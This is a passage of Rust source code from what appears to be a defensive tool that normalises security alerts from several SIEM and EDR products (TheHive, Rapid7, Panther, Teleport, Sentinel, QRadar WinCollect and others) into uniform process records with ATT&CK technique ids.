            "other" if msg.contains("grandparent") => continue,
            "other" if msg.contains("parent") && (msg.contains("command") || tagged("cmdline")) => {
                &mut parent_cmd
            }
            "other" if msg.contains("command") || tagged("cmdline") || tagged("commandline") => {
                &mut cmd
            }
            "other"
                if msg.ends_with(".user")
                    || msg == "user"
                    || tagged("user")
                    || tagged("account")
                    || msg.starts_with("account") =>
            {
                &mut user
            }
            "filename" if msg.contains("grandparent") => &mut grand,
            "filename" if msg.contains("parent") => &mut parent_image,
            "filename" if msg.contains("image") || msg.contains("process") => &mut image,
            "hostname" | "fqdn" => &mut host,
            "mail" if user.is_none() => {
                user = data.split('@').next().map(str::to_owned);
                continue;
            }
            _ => continue,
        };
        if slot.is_none() {
            *slot = Some(data);
        }
    }
    // An abbreviated auditd EXECVE record quoted in the description (`type=EXECVE a0="bash"
    // a1="-c" … exe=…`, as a Wazuh integration pastes the alert's log): its arguments and
    // program.
    if cmd.is_none()
        && let Some(rec) = mtext(obj, "description").and_then(|d| {
            // Whole auditd records (`msg=audit(…)`) are left to the auditd reader.
            let at = d
                .find("type=EXECVE")
                .filter(|_| !d.contains("msg=audit("))?;
            Some(d[at..].lines().next().unwrap_or_default().to_owned())
        })
    {
        let fields = super::edr::audit_fields(&rec);
        let arg = |i: usize| {
            fields
                .iter()
                .find(|(k, _)| *k == format!("a{i}"))
                .map(|(_, v)| crate::alert::auditd_arg(v.trim_end_matches('`').to_owned()))
        };
        let args: Vec<String> = (0..256).map_while(arg).collect();
        if !args.is_empty() {
            let argv: Vec<&str> = args.iter().map(String::as_str).collect();
            cmd = Some(super::edr::shell_join(&argv));
            if image.is_none() {
                image = fields
                    .iter()
                    .find(|(k, _)| *k == "exe")
                    .map(|(_, v)| v.clone());
            }
        }
    }
    if cmd.is_none() && image.is_none() {
        return None;
    }
    let mut e = Map::new();
    let path = |p: &Option<String>| p.clone().filter(|x| x.contains(['/', '\\']));
    put_process(&mut e, "process", path(&image), cmd.as_deref());
    if path(&image).is_none()
        && let Some(n) = image
            .as_deref()
            .or_else(|| cmd.as_deref().map(super::program))
    {
        set_path(&mut e, "process.name", s(super::basename_of(n)));
    }
    put_process(
        &mut e,
        "process.parent",
        path(&parent_image),
        parent_cmd.as_deref(),
    );
    if path(&parent_image).is_none()
        && let Some(n) = parent_image
            .as_deref()
            .or_else(|| parent_cmd.as_deref().map(super::program))
    {
        set_path(
            &mut e,
            "process.parent.name",
            s(super::basename_of(n.trim_matches('"'))),
        );
    }
    if let Some(g) = &grand {
        put_process(&mut e, "process.parent.parent", path(&grand), None);
        set_path(
            &mut e,
            "process.parent.parent.name",
            s(super::basename_of(g)),
        );
    }
    if let Some(o) = row(&["originalfilename"]) {
        set_path(&mut e, "process.pe.original_file_name", s(&o));
    }
    if let Some(d) = row(&["currentdirectory", "workingdirectory", "cwd"]) {
        set_path(&mut e, "process.working_directory", s(&d));
    }
    if let Some(h) = host {
        set_path(&mut e, "host.name", s(&h));
    }
    if let Some(u) = user {
        super::edr::set_user(&mut e, &u);
    }
    let mut ids: Vec<String> = Vec::new();
    let texts = [mtext(obj, "title"), mtext(obj, "description")];
    let tags = obj
        .get("tags")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(Json::as_str);
    for t in texts.into_iter().flatten().chain(tags) {
        for w in t.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.')) {
            ids.push(w.to_owned());
        }
    }
    set_techniques(&mut e, &ids.iter().map(String::as_str).collect::<Vec<_>>());
    if let Some(t) = mtext(obj, "title") {
        set_path(&mut e, "rule.name", s(t));
    }
    let id = mtext(obj, "sourceRef")
        .or_else(|| mtext(obj, "_id"))
        .map(str::to_owned);
    finish(&mut e, "thehive", "thehive", Json::Object(obj.clone()));
    Some((e, id))
}

/// Rapid7 InsightIDR investigations (`alerts[]`) and alerts, with their evidence
/// (`evidence` / `evidences`: `event_type`, and the event itself as a JSON string under
/// `data`). Each `PROCESS_START_EVENT` names the `process` and `parent_process` (`exe_path`,
/// `cmd_line`, `username`); the newest is the process.
pub(super) fn rapid7_idr(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    // An investigation's alerts, each with its evidence, or one alert carrying its own. Every
    // alert passes through here, so nothing is copied until the shape is recognised.
    let has_evidence = |a: &Json| {
        a.get("evidence")
            .or_else(|| a.get("evidences"))
            .is_some_and(Json::is_array)
    };
    let whole;
    let alerts: Vec<&Json> = match obj.get("alerts").and_then(Json::as_array) {
        Some(list) if list.iter().any(has_evidence) => list.iter().collect(),
        _ if obj
            .get("evidence")
            .or_else(|| obj.get("evidences"))
            .is_some_and(Json::is_array) =>
        {
            whole = Json::Object(obj.clone());
            vec![&whole]
        }
        _ => return None,
    };
    let evidence = |a: &Json| -> Vec<Json> {
        a.get("evidence")
            .or_else(|| a.get("evidences"))
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .filter(|ev| text(ev, "event_type") == Some("PROCESS_START_EVENT"))
            .filter_map(|ev| match ev.get("data")? {
                Json::String(d) => serde_json::from_str(d).ok(),
                d @ Json::Object(_) => Some(d.clone()),
                _ => None,
            })
            .collect()
    };
    let mut procs = Vec::new();
    let mut ids: Vec<String> = Vec::new();
    let mut rule = None;
    for a in alerts {
        for d in evidence(a) {
            let p = d.get("process");
            let pp = d.get("parent_process");
            let mut flat = Map::new();
            for (k, v) in [
                ("process_path", p.and_then(|p| text(p, "exe_path"))),
                ("process_name", p.and_then(|p| text(p, "name"))),
                ("process_command_line", p.and_then(|p| text(p, "cmd_line"))),
                ("parent_process_path", pp.and_then(|p| text(p, "exe_path"))),
                ("parent_process_name", pp.and_then(|p| text(p, "name"))),
                ("parent_command_line", pp.and_then(|p| text(p, "cmd_line"))),
                (
                    "username",
                    p.and_then(|p| text(p, "username"))
                        .or_else(|| text(&d, "user")),
                ),
                (
                    "hostname",
                    text(&d, "hostname").or_else(|| text(&d, "asset")),
                ),
            ] {
                if let Some(v) = v {
                    flat.insert(k.into(), s(v));
                }
            }
            if let Some(pid) = p.and_then(|p| p.get("pid")) {
                flat.insert("pid".into(), pid.clone());
            }
            if let Some(mut e) = flat_process(&flat) {
                if let Some(os) = text(&d, "os_type") {
                    set_path(&mut e, "host.os.name", s(os));
                }
                procs.push(e);
            }
        }
        for t in a
            .get("mitre_tcodes")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
        {
            ids.extend(t.as_str().map(str::to_owned));
        }
        rule = rule.or_else(|| text(a, "title").map(str::to_owned));
    }
    let mut e = newest_with_branches(procs)?;
    set_techniques(&mut e, &ids.iter().map(String::as_str).collect::<Vec<_>>());
    if let Some(r) = mtext(obj, "title").map(str::to_owned).or(rule) {
        set_path(&mut e, "rule.name", Json::String(r));
    }
    let id = mtext(obj, "rrn")
        .or_else(|| mtext(obj, "id"))
        .map(str::to_owned);
    finish(&mut e, "rapid7", "rapid7", Json::Object(obj.clone()));
    Some((e, id))
}

/// A Devo alert (`alertId`, `context`): the event that raised it, as JSON text under
/// `extraData`, is read as the alert; the alert's context names the rule.
pub(super) fn devo_event(obj: &Map<String, Json>) -> Option<(Map<String, Json>, String)> {
    if !(obj.contains_key("alertId") && obj.contains_key("context")) {
        return None;
    }
    let mut inner: Map<String, Json> = match obj.get("extraData")? {
        Json::String(d) => serde_json::from_str(d).ok()?,
        Json::Object(o) => o.clone(),
        _ => return None,
    };
    // Devo URL-encodes each value of the alert's extra data (`C%3A%5CWindows…`).
    for v in inner.values_mut() {
        if let Json::String(s) = v
            && !s.contains([' ', '\\'])
            && let Some(d) = percent_decoded(s)
        {
            *s = d;
        }
    }
    let rule = mtext(obj, "context")
        .map(|c| c.rsplit('.').next().unwrap_or(c).to_owned())
        .unwrap_or_default();
    Some((inner, rule))
}

/// What a Panther alert carries: its matched event, the alert id, the rule's title and the
/// technique ids.
pub(super) type PantherAlert = (
    Map<String, Json>,
    Option<String>,
    Option<String>,
    Vec<String>,
);

/// A Panther alert (`alertId`, `ruleId`; the matched log events under `events`, the rule's
/// own context under `alertContext`, its ATT&CK mapping under `reports`): the first matched
/// event is the alert (its context when no event came along), with the alert's id, the rule's
/// title and the technique ids (`"TA0002:T1059.004"`).
pub(super) fn panther_alert(obj: &Map<String, Json>) -> Option<PantherAlert> {
    // The alert-destination shape (`{"alert": {…}, "events": […]}`) carries the alert beside
    // its events.
    let (obj, events) = match obj.get("alert") {
        Some(Json::Object(a))
            if (a.contains_key("AlertID")
                || a.contains_key("alertId")
                || a.contains_key("detectionId"))
                && obj.get("events").is_some_and(Json::is_array) =>
        {
            (a, obj.get("events"))
        }
        _ => (obj, obj.get("events")),
    };
    // The webhook destination's payload: `alertId` with the rule's `id`, `logTypes` and the
    // one matched `event`.
    let webhook = obj.contains_key("alertId")
        && (obj.contains_key("logTypes") || obj.contains_key("destinationIds"))
        && obj.get("event").is_some_and(Json::is_object);
    // The alerts API's (`analysisId` names the rule) and a destination's with its events.
    let known = (obj.contains_key("alertId")
        && (obj.contains_key("ruleId")
            || obj.contains_key("analysisId")
            || (obj.contains_key("logTypes") && events.is_some_and(Json::is_array))))
        || obj.contains_key("AlertID")
        || obj.contains_key("detectionId")
        || webhook
        // The default destination payload: the rule's `id`, its `runbook` and `logTypes`, and
        // the rule's context (the matched event's fields) under `alertContext`.
        || (obj.contains_key("alertId")
            && obj.get("alertContext").is_some_and(Json::is_object)
            && (obj.contains_key("logTypes") || obj.contains_key("runbook")));
    if !known {
        return None;
    }
    let mut event = events
        .and_then(Json::as_array)
        .and_then(|e| e.first())
        .or_else(|| obj.get("event").filter(|_| webhook))
        .or_else(|| obj.get("alertContext"))?
        .as_object()?
        .clone();
    // A rule's context that carries the log line it matched (`raw`, a syslog line): read as
    // the line, the context's own fields beside it.
    if !event.contains_key("message")
        && let Some(line) = event.get("raw").filter(|r| r.is_string()).cloned()
    {
        event.insert("message".into(), line);
    }
    let techniques = obj
        .get("reports")
        .and_then(|r| r.get("MITRE ATT&CK"))
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .chain(
            obj.get("tags")
                .and_then(Json::as_array)
                .into_iter()
                .flatten(),
        )
        .filter_map(Json::as_str)
        .map(|t| t.rsplit(':').next().unwrap_or(t).to_ascii_uppercase())
        .filter(|t| crate::load::is_technique(t))
        .collect();
    let rule = mtext(obj, "name")
        .or_else(|| mtext(obj, "title"))
        .map(str::to_owned);
    let id = mtext(obj, "alertId")
        .or_else(|| mtext(obj, "AlertID"))
        .map(str::to_owned);
    Some((event, id, rule, techniques))
}

/// A row of a Log Analytics custom table (`…_CL`, filled through the HTTP Data Collector API):
/// the JSON it was sent as, flattened into typed columns — `input_match_event_path_s`,
/// `…_d` (number), `…_b`, `…_g` (GUID), `…_t` (time), arrays and objects as JSON text. Rebuilt
/// as the nested document (the column's name split at `_`, its type suffix dropped, JSON text
/// parsed), beside the workspace's own columns (`TenantId`, `TimeGenerated`…).
/// A Teleport audit event of a command run over SSH (`"event": "exec"`, code `T3002I`, as the
/// auth service logs it and Panther or a SIEM forwards it): the node ran `command` through the
/// login's shell (`sh -c …`) as `login`, for the Teleport user `user`, from `addr.remote`. Read as
/// that process, its parent the node's `teleport` service; a Panther rule's ATT&CK ids
/// (`p_rule_reports`, `TA0006:T1003.008`) as the alert's techniques.
pub(super) fn teleport_exec(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    if obj.get("event").and_then(Json::as_str) != Some("exec")
        || !(obj.contains_key("server_hostname") || obj.contains_key("server_id"))
    {
        return None;
    }
    let cmd = obj.get("command").and_then(Json::as_str)?;
    let mut e = Map::new();
    set_path(&mut e, "process.name", s("sh"));
    set_path(&mut e, "process.command_line", s(&format!("sh -c {cmd}")));
    set_path(&mut e, "process.parent.name", s("teleport"));
    if let Some(login) = obj.get("login").and_then(Json::as_str) {
        set_path(&mut e, "user.name", s(login));
    }
    if let Some(u) = obj.get("user").and_then(Json::as_str) {
        set_path(&mut e, "user.email", s(u));
    }
    if let Some(h) = obj.get("server_hostname").and_then(Json::as_str) {
        set_path(&mut e, "host.name", s(h));
    }
    set_path(&mut e, "host.os.type", s("linux"));
    if let Some(ip) = obj
        .get("addr.remote")
        .or_else(|| obj.get("addr").and_then(|a| a.get("remote")))
        .and_then(Json::as_str)
        .and_then(|a| a.rsplit_once(':'))
        .map(|(ip, _)| ip.trim_matches(['[', ']']))
    {
        set_path(&mut e, "source.ip", s(ip));
    }
    if let Some(t) = obj.get("time").and_then(Json::as_str) {
        e.insert("@timestamp".into(), s(t));
    }
    let ids: Vec<Json> = obj
        .get("p_rule_reports")
        .and_then(|r| r.get("MITRE ATT&CK"))
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(Json::as_str)
        .filter_map(|x| x.rsplit(':').next())
        .filter(|t| t.starts_with('T'))
        .map(s)
        .collect();
    if !ids.is_empty() {
        set_path(&mut e, "threat.technique.id", Json::Array(ids));
    }
    set_path(&mut e, "event.category", Json::Array(vec![s("process")]));
    set_path(&mut e, "event.provider", s("teleport"));
    e.insert("teleport".into(), Json::Object(obj.clone()));
    Some(e)
}

pub(super) fn log_analytics_custom(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    fn typed(k: &str) -> Option<&str> {
        ["_s", "_d", "_b", "_g", "_t"]
            .iter()
            .find_map(|sfx| k.strip_suffix(sfx))
            .filter(|base| !base.is_empty())
    }
    if !(obj.contains_key("TenantId") || obj.contains_key("TimeGenerated"))
        || obj.keys().filter(|k| typed(k).is_some()).count() < 5
    {
        return None;
    }
    let mut out = Map::new();
    for (k, v) in obj {
        let Some(base) = typed(k) else {
            out.insert(k.clone(), v.clone());
            continue;
        };
        let v = match v {
            Json::String(t) if t.starts_with(['[', '{']) => {
                serde_json::from_str::<Json>(t).unwrap_or_else(|_| v.clone())
            }
            _ => v.clone(),
        };
        let path: Vec<&str> = base.split('_').filter(|p| !p.is_empty()).collect();
        let mut cur = &mut out;
        for (i, seg) in path.iter().enumerate() {
            if i + 1 == path.len() {
                cur.insert((*seg).to_owned(), v);
                break;
            }
            let next = cur
                .entry((*seg).to_owned())
                .or_insert_with(|| Json::Object(Map::new()));
            if !next.is_object() {
                // A column that is both a value and a prefix: the value keeps its place.
                break;
            }
            cur = next.as_object_mut()?;
        }
    }
    // An array flattened into numbered columns (`input_related_processes_0_path_s`,
    // `…_1_path_s`): an object whose keys are all indexes is that array again.
    fn arrays(v: &mut Json) {
        match v {
            Json::Object(m) => {
                m.values_mut().for_each(arrays);
                // Keys 0, 1, … n-1 and nothing else: the array's items by index.
                let n = m.len();
                let is_array = n > 0 && (0..n).all(|i| m.contains_key(&i.to_string()));
                if is_array {
                    let items = (0..n).filter_map(|i| m.remove(&i.to_string())).collect();
                    *v = Json::Array(items);
                }
            }
            Json::Array(a) => a.iter_mut().for_each(arrays),
            _ => {}
        }
    }
    let mut doc = Json::Object(out);
    arrays(&mut doc);
    match doc {
        Json::Object(out) => Some(out),
        _ => None,
    }
}

/// QRadar WinCollect's payload: a Windows event as `AgentDevice=WindowsLog<TAB>Key=Value…`
/// after a syslog header, the rendered `Message` last. Read as the flat event NXLog ships:
/// `EventID`, `Hostname`, `User` (`DOMAIN\\name`), `Message`; a PowerShell pipeline event
/// (4103) also gets its `Payload` and `ContextInfo`, split out of the message, whose line
/// breaks WinCollect turned into spaces.
pub(super) fn wincollect_event(payload: &str) -> Option<Map<String, Json>> {
    let start = payload.find("AgentDevice=WindowsLog")?;
    let body = &payload[start..];
    // Fields are tab-separated; a payload whose tabs became spaces on the way (an export, a
    // forwarder) is split before each ` Key=` with the event's own capitalised key names.
    let tabbed = body.contains('\t');
    let sep = if tabbed { "\tMessage=" } else { " Message=" };
    let (fields, message) = match body.find(sep) {
        Some(i) => (&body[..i], Some(body[i + sep.len()..].trim())),
        None => (body, None),
    };
    let pairs: Vec<&str> = if tabbed {
        fields.split('\t').collect()
    } else {
        use regex::Regex;
        use std::sync::LazyLock;
        static KEY: LazyLock<Regex> =
            LazyLock::new(|| Regex::new(r" ([A-Z][A-Za-z0-9]{1,40})=").expect("static regex"));
        let mut cuts: Vec<usize> = KEY.find_iter(fields).map(|c| c.start()).collect();
        cuts.insert(0, 0);
        cuts.push(fields.len());
        cuts.windows(2).map(|w| fields[w[0]..w[1]].trim()).collect()
    };
    let mut m = Map::new();
    for f in pairs {
        if let Some((k, v)) = f.split_once('=')
            && !v.trim().is_empty()
        {
            m.insert(k.trim().to_owned(), s(v.trim()));
        }
    }
    let id: i64 = m.get("EventID")?.as_str()?.parse().ok()?;
    m.insert("EventID".into(), Json::from(id));
    if let Some(c) = m.remove("Computer") {
        m.insert("Hostname".into(), c);
    }
    if let (Some(d), Some(u)) = (
        m.get("Domain").and_then(Json::as_str),
        m.get("User").and_then(Json::as_str),
    ) && !u.contains('\\')
    {
        let du = format!("{d}\\{u}");
        m.insert("User".into(), s(&du));
    }
    if let Some(msg) = message {
        m.insert("Message".into(), s(msg));
        if id == 4688 {
            // `… Creator Subject: … Account Name: N  Account Domain: D … New Process Name: X
            // … Creator Process Name: P  Process Command Line: C`, one line.
            let f = rendered_labels(
                msg,
                &[
                    "Creator Subject:",
                    "Target Subject:",
                    "Process Information:",
                    "Security ID:",
                    "Account Name:",
                    "Account Domain:",
                    "Logon ID:",
                    "New Process ID:",
                    "New Process Name:",
                    "Token Elevation Type:",
                    "Mandatory Label:",
                    "Creator Process ID:",
                    "Creator Process Name:",
                    "Process Command Line:",
                ],
            );
            let first = |l: &str| f.iter().find(|(k, _)| *k == l).map(|(_, v)| *v);
            // The account under `Target Subject:` is the new process's own (a service host
            // starting a program as the signed-in user); the first one is its creator's.
            let target = f
                .iter()
                .skip_while(|(k, _)| *k != "Target Subject:")
                .take_while(|(k, _)| *k != "Process Information:");
            let in_target = |l: &str| target.clone().find(|(k, _)| *k == l).map(|(_, v)| *v);
            for (value, key) in [
                (first("New Process Name:"), "NewProcessName"),
                (first("Creator Process Name:"), "ParentProcessName"),
                // The message ends with the event's explanation of elevation types, which
                // follows an empty command line directly.
                (
                    first("Process Command Line:").map(|c| {
                        c.split_once("Token Elevation Type indicates")
                            .map_or(c, |(c, _)| c)
                            .trim()
                    }),
                    "CommandLine",
                ),
                (first("Account Name:"), "SubjectUserName"),
                (first("Account Domain:"), "SubjectDomainName"),
                (in_target("Account Name:"), "TargetUserName"),
                (in_target("Account Domain:"), "TargetDomainName"),
            ] {
                if let Some(v) = value.filter(|v| !v.is_empty() && *v != "-") {
                    m.entry(key).or_insert_with(|| s(v));
                }
            }
        }
        // A service installed: `… Service Name: N  Service File Name: CMD  Service Type: …`.
        if matches!(id, 7045 | 4697) {
            let f = rendered_labels(
                msg,
                &[
                    "Service Name:",
                    "Service File Name:",
                    "Service Type:",
                    "Service Start Type:",
                    "Service Account:",
                ],
            );
            for (label, key) in [
                ("Service Name:", "ServiceName"),
                ("Service File Name:", "ServiceFileName"),
                ("Service Account:", "AccountName"),
            ] {
                if let Some((_, v)) = f.iter().find(|(k, v)| *k == label && !v.is_empty()) {
                    m.entry(key).or_insert_with(|| s(v));
                }
            }
        }
        // A rendered script block: `Creating Scriptblock text (1 of 1): CODE ScriptBlock ID: …`
        if id == 4104
            && let Some(i) = msg.find("Creating Scriptblock text (")
            && let Some(j) = msg[i..].find("):")
        {
            let code = &msg[i + j + 2..];
            let code = code.rsplit_once("ScriptBlock ID:").map_or(code, |(c, _)| c);
            m.entry("ScriptBlockText").or_insert_with(|| s(code.trim()));
        }
        if matches!(id, 4103 | 800) {
            let (payload, rest) = msg.split_once("Context:").unwrap_or((msg, ""));
            let context = rest.split("User Data:").next().unwrap_or("");
            let ci: String = rendered_labels(
                context,
                &[
                    "Severity =",
                    "Host Name =",
                    "Host Version =",
                    "Host ID =",
                    "Host Application =",
                    "Engine Version =",
                    "Runspace ID =",
                    "Pipeline ID =",
                    "Command Name =",
                    "Command Type =",
                    "Script Name =",
                    "Command Path =",
                    "Sequence Number =",
                    "User =",
                    "Connected User =",
                    "Shell ID =",
                ],
            )
            .into_iter()
            .map(|(k, v)| format!("{k} {v}\n"))
            .collect();
            m.insert("Payload".into(), s(payload.trim()));
            m.insert("ContextInfo".into(), s(&ci));
        }
    }
    Some(m)
}

/// A Windows message whose line breaks were folded into spaces, read by its labels: each
/// label's value runs to the next label found (in the order they occur).
fn rendered_labels<'m>(msg: &'m str, labels: &[&'static str]) -> Vec<(&'static str, &'m str)> {
    let found: Vec<(usize, &'static str)> = labels
        .iter()
        .flat_map(|l| msg.match_indices(*l).map(move |(i, _)| (i, *l)))
        .collect();
    // A label inside a longer one (`User =` in `Connected User =`) is the longer one's.
    let mut at: Vec<(usize, &'static str)> = found
        .iter()
        .filter(|(i, l)| {
            !found
                .iter()
                .any(|(j, m)| m.len() > l.len() && *j <= *i && j + m.len() >= i + l.len())
        })
        .copied()
        .collect();
    at.sort_unstable();
    at.iter()
        .enumerate()
        .map(|(n, (i, l))| {
            let end = at.get(n + 1).map_or(msg.len(), |(j, _)| *j);
            (*l, msg[i + l.len()..end.max(i + l.len())].trim())
        })
        .collect()
}

/// `s` with its `%XX` escapes decoded, when it has any and they decode to UTF-8 text.
pub(super) fn percent_decoded(s: &str) -> Option<String> {
    let b = s.as_bytes();
    let hex = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
    let mut out = Vec::with_capacity(b.len());
    let mut any = false;
    let mut i = 0;
    while i < b.len() {
        match (
            b[i],
            b.get(i + 1).and_then(|&c| hex(c)),
            b.get(i + 2).and_then(|&c| hex(c)),
        ) {
            (b'%', Some(h), Some(l)) => {
                out.push(h << 4 | l);
                any = true;
                i += 3;
            }
            (c, _, _) => {
                out.push(c);
                i += 1;
            }
        }
    }
    if !any {
        return None;
    }
    String::from_utf8(out).ok()
}

/// A page of Devo's alerts API (`{"object": [alert, …]}`): one alert each.
pub(super) fn devo_alerts_page(o: &Map<String, Json>) -> Option<Vec<Json>> {
    let alerts = o.get("object")?.as_array()?;
    (!alerts.is_empty()
        && alerts
            .iter()
            .all(|a| a.get("alertId").is_some() && a.get("extraData").is_some()))
    .then(|| alerts.clone())
}

/// Trend Micro's flat detections (Apex One's and Vision One's detection search: `processCmd`
/// started `objectCmd`, `parentCmd` above it; `endpointHostName`, `processUser`).
pub(super) fn trend_detection(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    if !(obj.contains_key("endpointHostName") || obj.contains_key("endpointGUID"))
        || !(obj.contains_key("processCmd") || obj.contains_key("objectCmd"))
    {
        return None;
    }
    let mut e = Map::new();
    if !trend_chain(&mut e, |k| mtext(obj, k)) {
        return None;
    }
    if let Some(u) = mtext(obj, "processUser") {
        match mtext(obj, "userDomain") {
            Some(d) => set_user(&mut e, &format!("{d}\\{u}")),
            None => set_user(&mut e, u),
        }
    }
    if let Some(h) = mtext(obj, "endpointHostName") {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(os) = mtext(obj, "osName").or_else(|| mtext(obj, "osDescription")) {
        set_path(&mut e, "host.os.name", s(os));
    }
    if let Some(r) = mtext(obj, "ruleName") {
        set_path(&mut e, "rule.name", s(r));
    }
    // Trend's own technique tags (`XSAE.T1059`), and an OAT's filters' ids.
    let mut ids: Vec<&str> = obj
        .get("tags")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(Json::as_str)
        .filter_map(|t| t.split_once('.').map(|(_, id)| id))
        .collect();
    ids.extend(
        obj.get("mitreTechniqueIds")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .filter_map(Json::as_str),
    );
    set_techniques(&mut e, &ids);
    if let Some(t) = mtext(obj, "eventTimeDT") {
        e.insert("@timestamp".into(), s(t));
    }
    let id = mtext(obj, "uuid").map(str::to_owned);
    finish(
        &mut e,
        "trend_vision_one",
        "trend_micro",
        Json::Object(obj.clone()),
    );
    Some((e, id))
}

/// Sekoia.io alerts (`short_id`, `urgency`, `events`: the ECS events the rule matched, the
/// matching one first): the first event with a process is the alert; the others' command lines
/// follow its own. The alert's rule and `ttps` are kept.
pub(super) fn sekoia_alert(obj: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    if !(obj.contains_key("short_id") && obj.contains_key("urgency")) {
        return None;
    }
    let events: Vec<Map<String, Json>> = obj
        .get("events")?
        .as_array()?
        .iter()
        .filter_map(Json::as_object)
        .map(|ev| super::expand(ev.clone()))
        .collect();
    let cmd = |ev: &Map<String, Json>| {
        ev.get("process")
            .and_then(|p| text(p, "command_line"))
            .map(str::to_owned)
    };
    let first = events.iter().position(|ev| cmd(ev).is_some())?;
    let mut e = events[first].clone();
    let others: Vec<String> = events
        .iter()
        .enumerate()
        .filter(|(i, _)| *i != first)
        .filter_map(|(_, ev)| cmd(ev))
        .collect();
    if let Some(all) = with_branches(
        cmd(&events[first]).as_deref(),
        others.iter().map(String::as_str),
    ) && let Some(Json::Object(p)) = e.get_mut("process")
    {
        p.insert("command_line".into(), Json::String(all));
    }
    if let Some(r) = obj.get("rule").and_then(|r| text(r, "name")) {
        set_path(&mut e, "rule.name", s(r));
    }
    let ids: Vec<&str> = obj
        .get("ttps")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(|t| text(t, "id"))
        .collect();
    set_techniques(&mut e, &ids);
    let id = mtext(obj, "uuid").map(str::to_owned);
    finish(&mut e, "sekoia", "sekoia", Json::Object(obj.clone()));
    Some((e, id))
}

/// A row of Microsoft Sentinel's `Event` table (Windows events collected by the Log Analytics
/// agent: Sysmon, PowerShell, Security): the event's fields are XML text in `EventData`
/// (`<Data Name="CommandLine">…</Data>`). Read as the flat record NXLog would have shipped.
pub(super) fn sentinel_event_row(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    let xml = mtext(obj, "EventData")?;
    obj.get("EventID")?;
    if !xml.contains("<Data Name=") && !xml.contains("<Data>") {
        return None;
    }
    let mut flat = Map::new();
    let mut rest = xml;
    while let Some(i) = rest.find("<Data Name=\"") {
        let after = &rest[i + "<Data Name=\"".len()..];
        let Some((name, tail)) = after.split_once('"') else {
            break;
        };
        let Some(open_end) = tail.find('>') else {
            break;
        };
        let body = &tail[open_end + 1..];
        // `<Data Name="x" />` has no value.
        if tail[..open_end].ends_with('/') {
            rest = body;
            continue;
        }
        let end = body.find("</Data>").unwrap_or(body.len());
        let value = super::xml_unescape(&body[..end]);
        if !value.is_empty() {
            flat.insert(name.to_owned(), Json::String(value));
        }
        rest = &body[end..];
    }
    // Classic Windows PowerShell events (400, 403, 600) carry unnamed `<Data>` items, one of
    // them `Key=Value` lines (`HostApplication=…`, `EngineVersion=…`).
    for part in xml.split("<Data>").skip(1) {
        let body = super::xml_unescape(part.split("</Data>").next().unwrap_or_default());
        for line in body.lines() {
            if let Some((k, v)) = line.trim().split_once('=')
                && !k.is_empty()
                && k.chars().all(|c| c.is_ascii_alphanumeric())
                && !v.trim().is_empty()
            {
                flat.entry(k.to_owned())
                    .or_insert_with(|| Json::String(v.trim().to_owned()));
            }
        }
    }
    if flat.is_empty() {
        return None;
    }
    for (from, to) in [
        ("EventID", "EventID"),
        ("EventLog", "Channel"),
        ("Computer", "Computer"),
        ("Source", "SourceName"),
        ("TimeGenerated", "TimeCreated"),
    ] {
        if let Some(v) = obj.get(from) {
            flat.entry(to.to_owned()).or_insert(v.clone());
        }
    }
    if let Some(u) = mtext(obj, "UserName") {
        flat.entry("User".to_owned()).or_insert(s(u));
    }
    // The row's own columns where the XML left a field out (a 4688 without its command line
    // in `EventData` while the `CommandLine` column has it).
    for k in [
        "CommandLine",
        "NewProcessName",
        "ParentProcessName",
        "SubjectUserName",
        "SubjectDomainName",
        "TargetUserName",
        "MandatoryLabel",
        "TokenElevationType",
    ] {
        if let Some(v) = mtext(obj, k) {
            flat.entry(k.to_owned()).or_insert(s(v));
        }
    }
    Some(flat)
}

/// Exchange's cmdlet log (`MSExchange CmdletLogs`, event 1 in the MSExchange Management log, as
/// winlogbeat ships it): `param1` the cmdlet, `param2` its parameters, `param3` the caller,
/// `param4` the caller's SID, `param6` where the session came from. Read as a PowerShell
/// command: the cmdlet and its parameters are the content.
pub(super) fn exchange_cmdlet(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    let w = obj.get("winlog")?;
    if text(w, "provider_name") != Some("MSExchange CmdletLogs") {
        return None;
    }
    let data = w.get("event_data")?;
    let cmdlet = text(data, "param1")?;
    let params = text(data, "param2").unwrap_or_default();
    let mut e = Map::new();
    set_path(&mut e, "process.name", s("powershell.exe"));
    set_path(
        &mut e,
        "process.command_line",
        s(format!("{cmdlet} {params}").trim_end()),
    );
    set_path(&mut e, "powershell.command.name", s(cmdlet));
    // The caller as Active Directory names it: `domain/Users/name`.
    if let Some(c) = text(data, "param3") {
        let name = c.rsplit('/').next().unwrap_or(c);
        set_path(&mut e, "user.name", s(name));
        if let Some((d, _)) = c.split_once('/') {
            set_path(&mut e, "user.domain", s(d));
        }
    }
    if let Some(sid) = text(data, "param4") {
        set_path(&mut e, "user.id", s(sid));
    }
    if let Some(h) =
        text(w, "computer_name").or_else(|| obj.get("host").and_then(|h| text(h, "name")))
    {
        set_path(&mut e, "host.name", s(h));
    }
    set_path(&mut e, "host.os.type", s("windows"));
    if let Some(t) = mtext(obj, "@timestamp") {
        e.insert("@timestamp".into(), s(t));
    }
    let id = w.get("record_id").map(|r| r.to_string());
    finish(
        &mut e,
        "exchange_cmdlet",
        "exchange",
        Json::Object(obj.clone()),
    );
    Some((e, id))
}

/// A JSON object carried as text (a shipper's `message`, XSOAR's `rawJSON`, Splunk HEC's
/// `event`): the object, when the text is one with at least two fields.
pub(super) fn json_text(v: &Json) -> Option<Map<String, Json>> {
    json_object(v.as_str()?)
}

/// A JSON object in text, when the text is one with at least two fields.
